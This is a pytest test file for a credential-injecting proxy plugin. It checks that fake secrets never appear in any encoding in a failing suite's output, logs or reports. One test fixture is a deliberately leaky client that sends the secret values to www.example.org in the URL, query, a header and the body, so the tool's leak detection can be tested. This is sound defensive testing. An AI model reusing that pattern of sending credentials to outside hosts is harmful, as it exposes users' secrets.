"""Every secret of a suite, looked for in all that the suite puts out: no hit.

A suite of its own fails on purpose in every way there is, with secrets of every kind, as loudly as pytest can. Then its
terminal, logs, JUnit file, reports and whatever else it left are searched for each value, in each encoding that a
standard encoder writes.

The suite is in `loud_suite.txt`. What does not count is what a test itself holds: its locals, and those of a client
library, are shown by `--showlocals`, and what a library logs by itself is logged (httpcore's DEBUG lines, say). No tool
can know of these. So the suite never keeps a value in a local of a frame that fails, and its clients have none to show.
"""

from __future__ import annotations

import base64
import json
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.conftest import a_shells_environ

Run = Callable[..., "subprocess.CompletedProcess[str]"]

VALUES = {
    "static": 'st4tic/"s3cr+t&f9c2=xJ5v',
    "env": "env-s3cret_0b1c2d3e4f5a6b7c",
    "process": "proc3ss~s3cret:77ab90ce",
    "token": "auth-t0ken.5d6e7f8091a2b3c4",
    "prefixed": "ghp_Zx81LmN0pQ7rS5tU3vW9yA2bC4dE6fG8hI0j",
    "pair": "basic-s3cret-9f8e7d6c5b4a",
    "spoiled": "sp0iled-s3cret-1029384756",
    "failed": "f4iled-process-output-42ab",
    "added": "4dded-s3cret-a1b2c3d4e5f6",
    "hexadecimal": "0f1e2d3c4b5a69788796a5b4c3d2e1f0",
}

CONFIG = """\
log: {level: debug, output: gate.log, capture_headers: [X-Copy, Referer]}
credentials:
- {host: static.example.com, header: X-Token, grant: static, source: {type: static, value: %(static)s}}
- {host: env.example.com, grant: env, source: {type: env, var: PROOF_ENV}}
- {host: process.example.com, grant: process, source: {type: process, command: cat process.value}}
- {host: hub.example.com, grant: hub, source: {type: static, value: %(prefixed)s}}
- {host: pair.example.com, format: basic, prefix: user, source: {type: static, value: %(pair)s}}
- {host: hex.example.com, header: X-Hex, grant: hex, source: {type: static, value: %(hexadecimal)s}}
"""
WITH_TOKEN = "proxy: {auth_token: %(token)s}\n" + CONFIG
SPOILED = "credentials:\n- {host: a.example.com, source: {type: static, value: %(spoiled)s}}\n"
FAILING = """\
credentials:
- host: failing.example.com
  source: {type: process, command: "echo '%(failed)s'; echo 'no good: %(failed)s' >&2; exit 3"}
"""
BROKEN = "credentials:\n- {host: a.example.com, source: {type: static, vaule: %(static)s, value: {x: %(spoiled)s}}}\n"

SUITE = Path(__file__).with_name("loud_suite.txt")


STOPS = """
import pytest

@pytest.mark.gatekeeper(config="failing.yaml", secrets="real")
def test_config_source(gatekeeper_proxy):
    pass
"""


def encodings(value: str) -> Iterator[str]:
    """What standard encoders make of a value; each shows it whole."""
    data = value.encode()
    yield value
    for lead in (b"", b"u", b"u:"):
        start, end = -(-8 * len(lead) // 6), 8 * (len(lead) + len(data)) // 6
        for encode in (base64.b64encode, base64.urlsafe_b64encode):
            yield encode(lead + data).decode()[start:end]
    yield data.hex()
    yield data.hex().upper()
    for safe in ("", "/", "~()*!'"):
        yield quote(value, safe=safe)
    yield "".join(f"%{byte:02x}" for byte in data)
    yield "".join(f"%{byte:02X}" for byte in data)
    yield json.dumps(value)[1:-1]
    yield json.dumps(value)[1:-1].replace("/", "\\/").replace("&", "\\u0026")
    yield "".join(f"\\u{ord(char):04x}" for char in value)


def hits(texts: dict[str, str], values: dict[str, str]) -> list[str]:
    """Where a value shows: the text's name, the value's, the line."""
    found = []
    for where, text in texts.items():
        folded = text.replace("&quot;", '"').replace("&amp;", "&").replace("&#34;", '"').replace("&#x27;", "'")
        for name, value in values.items():
            for form in dict.fromkeys(encodings(value)):
                for source in (text, folded):
                    at = source.find(form)
                    if at >= 0:
                        line = source[max(0, at - 300) : at].replace(form, "…")
                        found.append(f"{name} in {where}: {line}<HERE>")
                        break
    return found


def written(folder: Path) -> None:
    """The suite, and what it reads."""
    quoted = {name: json.dumps(value) for name, value in VALUES.items()}
    spoiled = json.dumps(VALUES["spoiled"] + "\n")
    files = {
        "values.json": json.dumps(VALUES),
        "gatekeeper.yaml": CONFIG % quoted,
        "process.value": VALUES["process"],
        "token.yaml": WITH_TOKEN % quoted,
        "spoiled.yaml": SPOILED % {"spoiled": spoiled},
        "failing.yaml": FAILING % {"failed": VALUES["failed"]},
        "broken.yaml": BROKEN % quoted,
        "test_loud.py": SUITE.read_text(encoding="utf-8"),
        "test_stops.py": STOPS,
    }
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")


def put_out(folder: Path, terminal: str) -> dict[str, str]:
    """All that a run has put out: the terminal, and every file that was not there before."""
    ours = {
        "values.json",
        "canaries.txt",
        "test_loud.py",
        "test_stops.py",
        "process.value",
        *(path.name for path in folder.glob("*.yaml")),
    }
    files = [path for path in folder.rglob("*") if path.is_file() and path.name not in ours and path.suffix != ".pyc"]
    return {"terminal": terminal, **{path.name: path.read_text(encoding="utf-8", errors="replace") for path in files}}


def canaries(folder: Path) -> dict[str, str]:
    """Every value that was in force in any test, made up or not."""
    lines = (folder / "canaries.txt").read_text(encoding="utf-8").splitlines()
    found = {value for line in lines for value in json.loads(line)}
    return {f"canary {number}": value for number, value in enumerate(sorted(found))}


LOUD = ("-vv", "--showlocals", "--tb=long", "--log-cli-level=DEBUG", "--log-file=run.log", "-rA",
        "--log-file-level=DEBUG", "--junitxml=junit.xml", "-o", "junit_logging=all",
        "-o", "gatekeeper_config=gatekeeper.yaml",
        "--gatekeeper-report=report.json", "--gatekeeper-report=report.html",
        "--gatekeeper-fail-on=leak,unused,bypass,cleartext,violation")  # fmt: skip


@pytest.mark.parametrize(
    "options",
    [
        ("auto",),
        ("real", "--capture=no"),
        ("canary", "-n2", "-k", "leaks or host or marker or token"),
        ("real", "-n2", "--full-trace", "-k", "assertions or marker or credentials or factory"),
    ],
    ids=["auto", "real", "canary in two workers", "real in two workers, all frames"],
)
def test_no_secret_shows_anywhere(run_pytest: Run, tmp_path: Path, options: tuple[str, ...]) -> None:
    """Not one of any kind, in any encoding, in anything that a suite of failures puts out."""
    written(tmp_path)
    secrets, *others = options
    loud = (*LOUD, f"--gatekeeper-secrets={secrets}", *others)
    done = run_pytest(tmp_path, "test_loud.py", *loud, PROOF_ENV=VALUES["env"], COLUMNS="400")
    texts = put_out(tmp_path, done.stdout)
    assert {"terminal", "run.log", "junit.xml", "report.json", "report.html", "gate.log"} <= set(texts)
    assert done.returncode == 1, done.stdout[-3000:]
    counts = ET.fromstring(texts["junit.xml"])[0].attrib
    assert int(counts["failures"]) + int(counts["errors"]) >= (15 if "-k" in others else 45)
    in_force = canaries(tmp_path)
    assert len(in_force) >= 12
    assert ("_pytest/runner.py" in texts["terminal"]) == ("--full-trace" in others)  # all frames but ours are there
    assert "<secret " in texts["terminal"] and "<secret " in texts["report.html"].replace("&lt;", "<")
    assert hits(texts, {**VALUES, **in_force}) == []


@pytest.mark.parametrize("options", [(), ("--full-trace",)], ids=["hidden frames", "all frames"])
def test_no_secret_shows_where_a_source_fails(run_pytest: Run, tmp_path: Path, options: tuple[str, ...]) -> None:
    """The run stops and says which; what the command printed is left out of what it said of it."""
    written(tmp_path)
    done = run_pytest(tmp_path, "test_stops.py", *LOUD, *options, PROOF_ENV=VALUES["env"])
    assert "failing.yaml:2: credentials[0]: the credential for failing.example.com" in done.stdout
    assert hits(put_out(tmp_path, done.stdout), VALUES) == []


def test_the_search_can_find(tmp_path: Path) -> None:
    """A value in any encoding would have been found; and the fingerprints that stand for them are there."""
    for name, value in VALUES.items():
        for form in encodings(value):
            assert [hit.split()[0] for hit in hits({"x": f"before {form} after"}, {name: value})] == [name]
    assert hits({"x": "st4tic"}, VALUES) == []


def test_no_secret_shows_when_any_command_is_run(tmp_path: Path) -> None:
    """`exec`: its table, its log and its reports, for a client that leaks in every place."""
    written(tmp_path)
    client = """
        import json, urllib.request as u
        values = json.load(open("values.json"))
        for name in ("static", "env", "process", "prefixed", "pair", "hexadecimal"):
            quoted = u.quote(values[name], safe="")
            request = u.Request(f"https://www.example.org/{quoted}?q={quoted}", headers={"X-Copy": quoted})
            u.urlopen(request, values[name].encode(), timeout=10).read()
            u.urlopen("https://static.example.com/", timeout=10).read()
    """
    script = "\n".join(line[8:] for line in client.splitlines())
    (tmp_path / "client.py").write_text(script, encoding="utf-8")
    command = [sys.executable, "-m", "pytest_gatekeeper", "exec", "--config", "gatekeeper.yaml", "--secrets", "real",
               "--origin", "www.example.org", "--origin", "static.example.com", "--fail-on", "leak",
               "--report", "report.json", "--report", "report.html", "--", sys.executable, "client.py"]  # fmt: skip
    done = subprocess.run(command, cwd=tmp_path, env={**a_shells_environ(), "PROOF_ENV": VALUES["env"]}, text=True,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60, check=False)  # fmt: skip
    texts = put_out(tmp_path, done.stdout)
    texts.pop("client.py")
    assert done.returncode == 1, done.stdout
    assert {"terminal", "report.json", "report.html", "gate.log"} <= set(texts)
    assert "leak" in done.stdout and "www.example.org" in texts["gate.log"]
    assert hits(texts, VALUES) == []
